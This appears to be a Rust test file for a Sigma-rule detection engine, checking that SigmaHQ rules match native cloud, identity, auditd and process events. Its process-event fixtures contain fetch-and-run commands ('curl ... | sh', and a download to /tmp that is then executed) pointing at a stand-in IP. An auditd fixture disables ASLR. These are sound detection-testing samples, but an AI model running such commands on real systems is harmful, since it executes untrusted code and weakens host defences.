//! The shipped pipelines make SigmaHQ rules match events in each source's native shape.
//!
//! For every source: real rules from the SigmaHQ corpus (`$PALISADE_CORPUS`, by default
//! `../shared/corpus` beside the project) and an event as the source really emits it. Where the
//! rule's field names differ from the event's, the test also shows that the rule does not fire
//! without the pipelines, so the mapping is what makes it work.

mod common;

use std::path::Path;

use palisade_detect::{Detector, Input, Options, RuleSet, SourceKind};
use serde_json::{Value, json};

/// A detector over one corpus rule, with or without the shipped pipelines, and the rule's id.
fn detector(corpus: &Path, rule: &str, builtin_pipelines: bool) -> (Detector, String) {
    let mut rules = RuleSet::new();
    rules.add_path(&corpus.join("sigma").join(rule)).unwrap();
    assert!(rules.errors.is_empty(), "{rule}: {:?}", rules.errors);
    let id = rules.infos()[0].id.clone();
    let det = Detector::new(
        &rules,
        Options {
            no_builtin_pipelines: !builtin_pipelines,
            ..Options::default()
        },
    )
    .unwrap();
    assert!(det.errors.is_empty(), "{rule}: {:?}", det.errors);
    (det, id)
}

fn fires(det: &Detector, id: &str, event: &Value, source: SourceKind) -> bool {
    det.evaluate(Input {
        event,
        source: Some(source),
        time_ns: None,
    })
    .iter()
    .any(|m| m.rule_id == id)
}

/// `rule` fires on `event` with the pipelines; with `needs_mapping` it must not fire without
/// them. The event is also recognised as `source` from its own fields (except process events,
/// which only come from a sensor source).
fn check(rule: &str, source: SourceKind, event: Value, needs_mapping: bool) {
    let Some(corpus) = common::corpus() else {
        return;
    };
    let (det, id) = detector(&corpus, rule, true);
    assert!(
        fires(&det, &id, &event, source),
        "{rule} does not fire on its event"
    );
    if source != SourceKind::Process {
        assert_eq!(
            SourceKind::recognise(&event),
            source,
            "{rule}: event not recognised"
        );
    }
    let (bare, _) = detector(&corpus, rule, false);
    assert_eq!(
        fires(&bare, &id, &event, source),
        !needs_mapping,
        "{rule}: without the pipelines it {}",
        if needs_mapping {
            "fires too, so the mapping is not what makes it match"
        } else {
            "does not fire, so it needs a mapping"
        }
    );
}

// ---------------------------------------------------------------- Kubernetes audit

fn audit(verb: &str, object_ref: Value, request_object: Option<Value>) -> Value {
    let mut e = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": "0b9c4e29-5a47-4b61-a0f5-6d4b1e6c8a31",
        "stage": "ResponseComplete",
        "requestURI": "/apis/apps/v1/namespaces/payments/deployments/api?fieldManager=kubectl-patch",
        "verb": verb,
        "user": {"username": "bob@example.com", "groups": ["oidc:developers", "system:authenticated"]},
        "sourceIPs": ["198.51.100.7"],
        "userAgent": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
        "objectRef": object_ref,
        "responseStatus": {"metadata": {}, "code": 201},
        "requestReceivedTimestamp": "2026-11-27T10:00:00.000000Z",
        "stageTimestamp": "2026-11-27T10:00:00.012000Z",
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}
    });
    if let Some(o) = request_object {
        e["requestObject"] = o;
    }
    e
}

#[test]
fn kubernetes_hostpath_rule_reads_the_pod_spec() {
    let pod = json!({
        "kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": "node-reader", "namespace": "default"},
        "spec": {
            "containers": [{"name": "c", "image": "busybox:1.36",
                            "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
            "volumes": [{"name": "tmp", "emptyDir": {}},
                        {"name": "host", "hostPath": {"path": "/var/run/containerd", "type": ""}}]
        }
    });
    check(
        "rules/application/kubernetes/audit/kubernetes_audit_hostpath_mount.yml",
        SourceKind::K8sAudit,
        audit(
            "create",
            json!({"resource": "pods", "namespace": "default", "name": "node-reader", "apiVersion": "v1"}),
            Some(pod),
        ),
        true,
    );
}

#[test]
fn kubernetes_capabilities_rule_reads_the_pod_spec() {
    let pod = json!({
        "kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": "netdebug", "namespace": "default"},
        "spec": {"containers": [
            {"name": "app", "image": "nginx:1.27"},
            {"name": "dbg", "image": "nicolaka/netshoot:v0.13",
             "securityContext": {"capabilities": {"add": ["NET_ADMIN", "SYS_PTRACE"]}}}
        ]}
    });
    check(
        "rules/application/kubernetes/audit/kubernetes_audit_privileged_pod_creation.yml",
        SourceKind::K8sAudit,
        audit(
            "create",
            json!({"resource": "pods", "namespace": "default", "name": "netdebug", "apiVersion": "v1"}),
            Some(pod),
        ),
        true,
    );
}

#[test]
fn kubernetes_api_group_maps_to_the_object_ref() {
    check(
        "rules/application/kubernetes/audit/kubernetes_audit_sidecar_injection.yml",
        SourceKind::K8sAudit,
        audit(
            "patch",
            json!({"resource": "deployments", "namespace": "payments", "name": "api",
                   "apiGroup": "apps", "apiVersion": "v1"}),
            None,
        ),
        true,
    );
}

#[test]
fn kubernetes_native_fields_need_no_mapping() {
    let mut e = audit(
        "create",
        json!({"resource": "pods", "namespace": "payments", "name": "api-7d9f6c5b8-x2kqp",
               "apiVersion": "v1", "subresource": "exec"}),
        None,
    );
    e["responseStatus"]["code"] = json!(101);
    check(
        "rules/application/kubernetes/audit/kubernetes_audit_exec_into_container.yml",
        SourceKind::K8sAudit,
        e,
        false,
    );
}

// ---------------------------------------------------------------- CloudTrail

fn cloudtrail(event_source: &str, event_name: &str, identity: Value) -> Value {
    json!({
        "eventVersion": "1.09",
        "userIdentity": identity,
        "eventTime": "2026-11-27T10:00:00Z",
        "eventSource": event_source,
        "eventName": event_name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.50",
        "userAgent": "aws-cli/2.17.3 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.11.9",
        "requestParameters": null,
        "responseElements": null,
        "requestID": "4b1c0b9e-6a55-4a1e-9d07-2f2f5d0c8e11",
        "eventID": "d5f2c2a8-7a6e-4f0b-8a53-f6f1a2b0c9d4",
        "readOnly": false,
        "eventType": "AwsApiCall",
        "managementEvent": true,
        "recipientAccountId": "123456789012",
        "eventCategory": "Management"
    })
}

fn admin_role() -> Value {
    json!({
        "type": "AssumedRole",
        "principalId": "AROAEXAMPLEROLE:mallory",
        "arn": "arn:aws:sts::123456789012:assumed-role/ops-admin/mallory",
        "accountId": "123456789012",
        "accessKeyId": "ASIAEXAMPLE4KZ7Q",
        "sessionContext": {
            "sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLEROLE",
                              "arn": "arn:aws:iam::123456789012:role/ops-admin",
                              "accountId": "123456789012", "userName": "ops-admin"},
            "attributes": {"creationDate": "2026-11-27T09:50:00Z", "mfaAuthenticated": "false"}
        }
    })
}

#[test]
fn cloudtrail_status_success_means_no_error_code() {
    let mut e = cloudtrail("iam.amazonaws.com", "DeleteSAMLProvider", admin_role());
    e["requestParameters"] =
        json!({"sAMLProviderArn": "arn:aws:iam::123456789012:saml-provider/okta"});
    check(
        "rules/cloud/aws/cloudtrail/aws_delete_saml_provider.yml",
        SourceKind::CloudTrail,
        e.clone(),
        true,
    );
    // A failed call carries errorCode and is not a success.
    let Some(corpus) = common::corpus() else {
        return;
    };
    let (det, id) = detector(
        &corpus,
        "rules/cloud/aws/cloudtrail/aws_delete_saml_provider.yml",
        true,
    );
    e["errorCode"] = json!("AccessDenied");
    e["errorMessage"] = json!("User is not authorized to perform: iam:DeleteSAMLProvider");
    assert!(!fires(&det, &id, &e, SourceKind::CloudTrail));
}

#[test]
fn cloudtrail_native_fields_need_no_mapping() {
    let mut e = cloudtrail(
        "signin.amazonaws.com",
        "ConsoleLogin",
        json!({"type": "IAMUser", "principalId": "AIDAEXAMPLEDANA7Q2",
               "arn": "arn:aws:iam::123456789012:user/dana", "accountId": "123456789012",
               "userName": "dana"}),
    );
    e["eventType"] = json!("AwsConsoleSignIn");
    e["responseElements"] = json!({"ConsoleLogin": "Success"});
    e["additionalEventData"] = json!({
        "LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
        "MobileVersion": "No",
        "MFAUsed": "No"
    });
    check(
        "rules/cloud/aws/cloudtrail/aws_cloudtrail_console_login_success_without_mfa.yml",
        SourceKind::CloudTrail,
        e,
        false,
    );
    let mut e = cloudtrail("cloudtrail.amazonaws.com", "StopLogging", admin_role());
    e["requestParameters"] =
        json!({"name": "arn:aws:cloudtrail:us-east-1:123456789012:trail/org-trail"});
    check(
        "rules/cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml",
        SourceKind::CloudTrail,
        e,
        false,
    );
}

// ---------------------------------------------------------------- GCP audit

fn gcp_entry(service: &str, method: &str, resource: &str, resource_type: &str, log: &str) -> Value {
    json!({
        "protoPayload": {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "status": {},
            "authenticationInfo": {"principalEmail": "mallory@example.com"},
            "requestMetadata": {
                "callerIp": "203.0.113.50",
                "callerSuppliedUserAgent": "google-cloud-sdk gcloud/485.0.0 command/gcloud.compute.firewall-rules.create",
                "requestAttributes": {"time": "2026-11-27T10:00:00.102Z", "auth": {}},
                "destinationAttributes": {}
            },
            "serviceName": service,
            "methodName": method,
            "authorizationInfo": [],
            "resourceName": resource,
            "request": {}
        },
        "insertId": "-x2k9p3e1a2b",
        "resource": {"type": resource_type, "labels": {"project_id": "shop-prod-4821"}},
        "timestamp": "2026-11-27T10:00:00.095Z",
        "severity": "NOTICE",
        "logName": format!("projects/shop-prod-4821/logs/cloudaudit.googleapis.com%2F{log}"),
        "receiveTimestamp": "2026-11-27T10:00:01.130Z"
    })
}

#[test]
fn gcp_elastic_method_name_maps_to_the_audit_log() {
    check(
        "rules/cloud/gcp/audit/gcp_firewall_rule_modified_or_deleted.yml",
        SourceKind::GcpAudit,
        gcp_entry(
            "compute.googleapis.com",
            "v1.compute.firewalls.insert",
            "projects/shop-prod-4821/global/firewalls/allow-ssh-any",
            "gce_firewall_rule",
            "activity",
        ),
        true,
    );
}

#[test]
fn gcp_data_envelope_is_dropped() {
    let mut e = gcp_entry(
        "accesscontextmanager.googleapis.com",
        "google.identity.accesscontextmanager.v1.AccessContextManager.DeleteAccessPolicy",
        "accessPolicies/318263857201",
        "audited_resource",
        "activity",
    );
    e["protoPayload"]["authorizationInfo"] = json!([{
        "resource": "accessPolicies/318263857201",
        "permission": "accesscontextmanager.accessPolicies.delete",
        "granted": true,
        "resourceAttributes": {}
    }]);
    check(
        "rules/cloud/gcp/audit/gcp_access_policy_deleted.yml",
        SourceKind::GcpAudit,
        e,
        true,
    );
}

#[test]
fn gcp_log_name_and_resource_are_entry_fields() {
    // The selection of SigmaHQ's gcp_breakglass_container_workload_deployed.yml. The rule also
    // needs the keyword `image-policy.k8s.io/break-glass`, which GKE writes as an annotation
    // *name*; keywords search values only, so the corpus rule itself cannot fire on a native
    // entry and its field mapping is tested on its selection alone.
    let rule = "title: GKE pod created (selection of the break-glass rule)
id: 9e1a7c52-35c4-4d7a-9b58-2f0a4e6d8c13
status: test
logsource:
    product: gcp
    service: gcp.audit
detection:
    selection:
        data.protoPayload.resource.type: 'k8s_cluster'
        data.protoPayload.logName:
            - 'cloudaudit.googleapis.com/activity'
            - 'cloudaudit.googleapis.com%2Factivity'
        data.protoPayload.methodName: 'io.k8s.core.v1.pods.create'
    condition: selection
level: low
";
    let event = gcp_entry(
        "k8s.io",
        "io.k8s.core.v1.pods.create",
        "core/v1/namespaces/payments/pods/api-debug",
        "k8s_cluster",
        "activity",
    );
    let id = "9e1a7c52-35c4-4d7a-9b58-2f0a4e6d8c13";
    let mut rules = RuleSet::new();
    rules.add_yaml("gcp_breakglass_selection.yml", rule);
    assert!(rules.errors.is_empty(), "{:?}", rules.errors);
    let det = Detector::new(&rules, Options::default()).unwrap();
    assert!(fires(&det, id, &event, SourceKind::GcpAudit));
    let bare = Detector::new(
        &rules,
        Options {
            no_builtin_pipelines: true,
            ..Options::default()
        },
    )
    .unwrap();
    assert!(!fires(&bare, id, &event, SourceKind::GcpAudit));
    // A data-access entry has another log name.
    let data_access = gcp_entry(
        "k8s.io",
        "io.k8s.core.v1.pods.create",
        "core/v1/namespaces/payments/pods/api-debug",
        "k8s_cluster",
        "data_access",
    );
    assert!(!fires(&det, id, &data_access, SourceKind::GcpAudit));
}

// ---------------------------------------------------------------- Azure activity

/// An Administrative event as diagnostic settings export it to storage or an event hub.
fn azure_activity(resource_id: &str, operation: &str) -> Value {
    json!({
        "time": "2026-11-27T10:00:00.1234567Z",
        "resourceId": resource_id,
        "operationName": operation,
        "category": "Administrative",
        "resultType": "Success",
        "resultSignature": "Succeeded.OK",
        "durationMs": "412",
        "callerIpAddress": "203.0.113.50",
        "correlationId": "6f2d8c1e-0b1a-4a54-9d87-51b6c2f9e0aa",
        "identity": {
            "authorization": {"scope": resource_id, "action": operation,
                              "evidence": {"role": "Owner", "roleAssignmentScope": "/subscriptions/0f4c2d1e-8a8b-4c5d-9e0f-1a2b3c4d5e6f",
                                           "principalType": "User"}},
            "claims": {"name": "Mallory Example", "ipaddr": "203.0.113.50",
                       "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "mallory@example.com"}
        },
        "level": "Information",
        "location": "global",
        "properties": {
            "statusCode": "OK",
            "serviceRequestId": "b1d7a0f3-9c54-4e11-a5bb-8f2e4d9c7a10",
            "eventCategory": "Administrative",
            "entity": resource_id,
            "message": operation,
            "hierarchy": "0f4c2d1e-8a8b-4c5d-9e0f-1a2b3c4d5e6f"
        }
    })
}

#[test]
fn azure_log_analytics_names_map_to_the_export() {
    check(
        "rules/cloud/azure/activity_logs/azure_aadhybridhealth_adfs_new_server.yml",
        SourceKind::AzureActivity,
        azure_activity(
            "/SUBSCRIPTIONS/0F4C2D1E-8A8B-4C5D-9E0F-1A2B3C4D5E6F/RESOURCEGROUPS/IDENTITY/PROVIDERS/MICROSOFT.ADHYBRIDHEALTHSERVICE/SERVICES/ADFEDERATIONSERVICE-CORP.EXAMPLE.COM",
            "MICROSOFT.ADHYBRIDHEALTHSERVICE/SERVICES/SERVICEMEMBERS/ACTION",
        ),
        true,
    );
    // A resource id naming another provider does not satisfy ResourceProviderValue.
    let Some(corpus) = common::corpus() else {
        return;
    };
    let (det, id) = detector(
        &corpus,
        "rules/cloud/azure/activity_logs/azure_aadhybridhealth_adfs_new_server.yml",
        true,
    );
    let other = azure_activity(
        "/SUBSCRIPTIONS/0F4C2D1E-8A8B-4C5D-9E0F-1A2B3C4D5E6F/RESOURCEGROUPS/IDENTITY/PROVIDERS/MICROSOFT.WEB/SITES/ADFEDERATIONSERVICE",
        "MICROSOFT.ADHYBRIDHEALTHSERVICE/SERVICES/SERVICEMEMBERS/ACTION",
    );
    assert!(!fires(&det, &id, &other, SourceKind::AzureActivity));
}

#[test]
fn azure_export_fields_need_no_mapping() {
    let rid = "/SUBSCRIPTIONS/0F4C2D1E-8A8B-4C5D-9E0F-1A2B3C4D5E6F/RESOURCEGROUPS/K8S/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/PROD-AKS";
    check(
        "rules/cloud/azure/activity_logs/azure_kubernetes_cronjob.yml",
        SourceKind::AzureActivity,
        azure_activity(
            rid,
            "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE",
        ),
        false,
    );
    check(
        "rules/cloud/azure/activity_logs/azure_granting_permission_detection.yml",
        SourceKind::AzureActivity,
        azure_activity(
            "/SUBSCRIPTIONS/0F4C2D1E-8A8B-4C5D-9E0F-1A2B3C4D5E6F/PROVIDERS/MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/3A1C5E7F-0B2D-4F6A-8C9E-1D3F5A7B9C0E",
            "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE",
        ),
        false,
    );
}

// ---------------------------------------------------------------- Okta

fn okta_event(event_type: &str, message: &str) -> Value {
    json!({
        "actor": {"id": "00u1a2b3c4d5e6f7g8h9", "type": "User", "alternateId": "mallory@example.com",
                  "displayName": "Mallory Example", "detailEntry": null},
        "client": {"userAgent": {"rawUserAgent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                                 "os": "Linux", "browser": "FIREFOX"},
                   "zone": "null", "device": "Computer", "id": null, "ipAddress": "185.220.101.4",
                   "geographicalContext": {"city": null, "state": null, "country": "Germany",
                                           "postalCode": null, "geolocation": {"lat": 51.2993, "lon": 9.491}}},
        "device": null,
        "authenticationContext": {"authenticationProvider": null, "credentialProvider": null,
                                  "credentialType": null, "issuer": null, "interface": null,
                                  "authenticationStep": 0, "externalSessionId": "102bZDNFfWaQSyEZQuDgWt-uQ"},
        "displayMessage": message,
        "eventType": event_type,
        "outcome": {"result": "SUCCESS", "reason": null},
        "published": "2026-11-27T10:00:00.532Z",
        "securityContext": {"asNumber": 60729, "asOrg": "zwiebelfreunde e.v.", "isp": "zwiebelfreunde e.v.",
                            "domain": "torservers.net", "isProxy": true},
        "severity": "INFO",
        "debugContext": {"debugData": {"requestId": "Zz1x2y3w4v5u6t7s8r9q", "requestUri": "/api/v1/authn",
                                       "url": "/api/v1/authn?"}},
        "legacyEventType": "core.user_auth.login_success",
        "transaction": {"type": "WEB", "id": "Zz1x2y3w4v5u6t7s8r9q", "detail": {}},
        "uuid": "8a3c1f0e-9b7d-11ef-a2c4-5f8e7d6c4b3a",
        "version": "0",
        "request": {"ipChain": [{"ip": "185.220.101.4", "version": "V4", "source": null}]},
        "target": [{"id": "00u1a2b3c4d5e6f7g8h9", "type": "User", "alternateId": "mallory@example.com",
                    "displayName": "Mallory Example"}]
    })
}

#[test]
fn okta_rules_match_the_system_log_api() {
    check(
        "rules/identity/okta/okta_user_session_start_via_anonymised_proxy.yml",
        SourceKind::Okta,
        okta_event("user.session.start", "User login to Okta"),
        false,
    );
    let mut e = okta_event("system.api_token.create", "Create API token");
    e["securityContext"]["isProxy"] = json!(false);
    e["legacyEventType"] = json!("api.token.create");
    check(
        "rules/identity/okta/okta_api_token_created.yml",
        SourceKind::Okta,
        e,
        false,
    );
}

#[test]
fn okta_lower_case_field_names_map_to_camel_case() {
    // The field spelling of older SigmaHQ Okta rules.
    let rule = "title: Okta MFA Reset or Deactivated (lower-case fields)
id: 50e068d7-1e6b-4054-87e5-0a592c40c7e0
status: test
logsource:
    product: okta
    service: okta
detection:
    selection:
        eventtype:
            - user.mfa.factor.deactivate
            - user.mfa.factor.reset_all
        displaymessage|contains: factor
    condition: selection
level: medium
";
    let event = okta_event("user.mfa.factor.deactivate", "Reset factor for user");
    let mut rules = RuleSet::new();
    rules.add_yaml("okta_lower_case.yml", rule);
    assert!(rules.errors.is_empty(), "{:?}", rules.errors);
    let id = "50e068d7-1e6b-4054-87e5-0a592c40c7e0";
    let det = Detector::new(&rules, Options::default()).unwrap();
    assert!(fires(&det, id, &event, SourceKind::Okta));
    let bare = Detector::new(
        &rules,
        Options {
            no_builtin_pipelines: true,
            ..Options::default()
        },
    )
    .unwrap();
    assert!(!fires(&bare, id, &event, SourceKind::Okta));
}

// ---------------------------------------------------------------- GitHub audit

fn github_event(action: &str) -> Value {
    json!({
        "@timestamp": 1795773600123_i64,
        "_document_id": "x1Yq2W3e4R5t6Y7u8I9o0P",
        "action": action,
        "actor": "mallory-gh",
        "actor_id": 91234567,
        "actor_ip": "203.0.113.50",
        "actor_location": {"country_code": "DE"},
        "business": "example-corp",
        "business_id": 1234,
        "created_at": 1795773600123_i64,
        "operation_type": "modify",
        "org": "example-org",
        "org_id": 87654321,
        "repo": "example-org/payments-api",
        "repo_id": 456789012,
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    })
}

#[test]
fn github_rules_match_streamed_audit_events() {
    check(
        "rules/application/github/audit/github_secret_scanning_feature_disabled.yml",
        SourceKind::GitHubAudit,
        github_event("repository_secret_scanning.disable"),
        false,
    );
    let mut e = github_event("org.remove_outside_collaborator");
    e["user"] = json!("contractor-7");
    check(
        "rules/application/github/audit/github_outside_collaborator_detected.yml",
        SourceKind::GitHubAudit,
        e,
        false,
    );
}

// ---------------------------------------------------------------- Linux auditd

#[test]
fn auditd_rules_match_enriched_records() {
    // type=SYSCALL msg=audit(1795773600.123:4711): arch=c000003e syscall=133 success=yes exit=0
    // a0=7ffd2c1e3f10 a1=21b6 a2=0 a3=0 items=2 ppid=2214 pid=2290 auid=1000 uid=0 gid=0 euid=0
    // suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="mknod" exe="/usr/bin/mknod"
    // key=(null) ARCH=x86_64 SYSCALL=mknod AUID="alice" UID="root" ...
    let syscall = json!({
        "type": "SYSCALL", "msg": "audit(1795773600.123:4711):", "arch": "c000003e",
        "syscall": "133", "success": "yes", "exit": "0", "a0": "7ffd2c1e3f10", "a1": "21b6",
        "a2": "0", "a3": "0", "items": "2", "ppid": "2214", "pid": "2290", "auid": "1000",
        "uid": "0", "gid": "0", "euid": "0", "suid": "0", "fsuid": "0", "egid": "0", "sgid": "0",
        "fsgid": "0", "tty": "pts0", "ses": "3", "comm": "mknod", "exe": "/usr/bin/mknod",
        "key": "(null)", "ARCH": "x86_64", "SYSCALL": "mknod", "AUID": "alice", "UID": "root",
        "GID": "root", "EUID": "root", "SUID": "root", "FSUID": "root", "EGID": "root",
        "SGID": "root", "FSGID": "root"
    });
    check(
        "rules/linux/auditd/syscall/lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml",
        SourceKind::Auditd,
        syscall,
        false,
    );
    // type=EXECVE msg=audit(1795773601.004:4720): argc=3 a0="sysctl" a1="-w" a2="kernel.randomize_va_space=0"
    let execve = json!({
        "type": "EXECVE", "msg": "audit(1795773601.004:4720):", "argc": "3",
        "a0": "sysctl", "a1": "-w", "a2": "kernel.randomize_va_space=0"
    });
    let Some(corpus) = common::corpus() else {
        return;
    };
    let (det, id) = detector(
        &corpus,
        "rules/linux/auditd/lnx_auditd_disable_aslr_protection.yml",
        true,
    );
    // An EXECVE record has no `syscall`, so it is only recognised by the source it came from.
    assert!(fires(&det, &id, &execve, SourceKind::Auditd));
    let (bare, _) = detector(
        &corpus,
        "rules/linux/auditd/lnx_auditd_disable_aslr_protection.yml",
        false,
    );
    assert!(fires(&bare, &id, &execve, SourceKind::Auditd));
}

// ---------------------------------------------------------------- Linux process events

/// A Tetragon `process_exec` event (`tetra getevents -o json`).
fn tetragon_exec(binary: &str, arguments: &str, parent: &str, parent_args: &str) -> Value {
    json!({
        "process_exec": {
            "process": {
                "exec_id": "d29ya2VyLTE6MTc5NTc3MzYwMDEyMzAwMDAwMDoyMjkw",
                "pid": 2290, "uid": 1001, "cwd": "/opt/app",
                "binary": binary, "arguments": arguments,
                "flags": "execve clone", "start_time": "2026-11-27T10:00:00.123456789Z",
                "auid": 4294967295_u32,
                "pod": {"namespace": "payments", "name": "api-7d9f6c5b8-x2kqp",
                        "container": {"id": "containerd://4f1c2b3a", "name": "api",
                                      "image": {"id": "registry.example.com/payments/api@sha256:1f2e", "name": "registry.example.com/payments/api:1.8.3"},
                                      "start_time": "2026-11-27T09:12:44Z", "pid": 41}},
                "docker": "4f1c2b3a", "parent_exec_id": "d29ya2VyLTE6MTc5NTc3MzU5OTAwMDAwMDAwMDoyMjE0",
                "tid": 2290
            },
            "parent": {
                "exec_id": "d29ya2VyLTE6MTc5NTc3MzU5OTAwMDAwMDAwMDoyMjE0",
                "pid": 2214, "uid": 1001, "cwd": "/opt/app",
                "binary": parent, "arguments": parent_args,
                "flags": "execve", "start_time": "2026-11-27T09:12:44.100000000Z", "tid": 2214
            }
        },
        "node_name": "worker-2",
        "time": "2026-11-27T10:00:00.123456789Z"
    })
}

#[test]
fn process_rules_match_tetragon_exec_events() {
    check(
        "rules/linux/process_creation/proc_creation_lnx_susp_java_children.yml",
        SourceKind::Process,
        tetragon_exec(
            "/bin/sh",
            "-c \"curl -s http://203.0.113.99/x | sh\"",
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "-jar /opt/app/app.jar",
        ),
        true,
    );
    check(
        "rules/linux/process_creation/proc_creation_lnx_curl_wget_exec_tmp.yml",
        SourceKind::Process,
        tetragon_exec(
            "/usr/bin/nohup",
            "sh -c \"/usr/bin/curl -so /tmp/.x http://203.0.113.99/x && chmod +x /tmp/.x && /tmp/.x\"",
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "-jar /opt/app/app.jar",
        ),
        true,
    );
}

#[test]
fn process_rules_match_sysmon_for_linux_events() {
    // Sysmon for Linux event 1, converted from its XML like the Windows regression data.
    let event = json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Linux-Sysmon", "Guid": "ff032593-a8d3-4f13-b0d6-01fc615a0f97"}},
            "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-11-27T10:00:00.123456000Z"}},
            "EventRecordID": 48213, "Correlation": null,
            "Execution": {"#attributes": {"ProcessID": 1123, "ThreadID": 1123}},
            "Channel": "Linux-Sysmon/Operational", "Computer": "worker-2",
            "Security": {"#attributes": {"UserId": "0"}}
        },
        "EventData": {
            "RuleName": "-", "UtcTime": "2026-11-27 10:00:00.123",
            "ProcessGuid": "{5f2d3c4b-1a2b-6745-3c1d-000000000000}", "ProcessId": 2290,
            "Image": "/usr/bin/bash", "FileVersion": "-", "Description": "-", "Product": "-",
            "Company": "-", "OriginalFileName": "-",
            "CommandLine": "bash -c \"curl -s http://203.0.113.99/x | sh\"",
            "CurrentDirectory": "/opt/app", "User": "app",
            "LogonGuid": "{5f2d3c4b-0000-0000-e903-000000000000}", "LogonId": 1001,
            "TerminalSessionId": 4294967295_u32, "IntegrityLevel": "no level", "Hashes": "-",
            "ParentProcessGuid": "{5f2d3c4b-7c1a-6745-2d0f-000000000000}", "ParentProcessId": 2214,
            "ParentImage": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "ParentCommandLine": "java -jar /opt/app/app.jar", "ParentUser": "app"
        }
    }});
    check(
        "rules/linux/process_creation/proc_creation_lnx_susp_java_children.yml",
        SourceKind::Process,
        event,
        false,
    );
}

// ---------------------------------------------------------------- Windows event JSON

#[test]
fn windows_rules_match_the_regression_data_shape() {
    let Some(corpus) = common::corpus() else {
        return;
    };
    for (rule, dir) in [
        (
            "rules/windows/process_creation/proc_creation_win_curl_custom_user_agent.yml",
            "regression_data/rules/windows/process_creation/proc_creation_win_curl_custom_user_agent",
        ),
        (
            "rules/windows/process_creation/proc_creation_win_wmic_terminate_application.yml",
            "regression_data/rules/windows/process_creation/proc_creation_win_wmic_terminate_application",
        ),
    ] {
        let dir = corpus.join("sigma").join(dir);
        let file = std::fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .find(|p| p.extension().is_some_and(|x| x == "json"))
            .unwrap_or_else(|| panic!("no event in {}", dir.display()));
        let event: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        check(rule, SourceKind::Windows, event, false);
    }
}

#[test]
fn every_shipped_pipeline_parses() {
    let pipelines = palisade_detect::pipelines::builtin().unwrap();
    assert_eq!(pipelines.len(), palisade_detect::pipelines::BUILTIN.len());
}
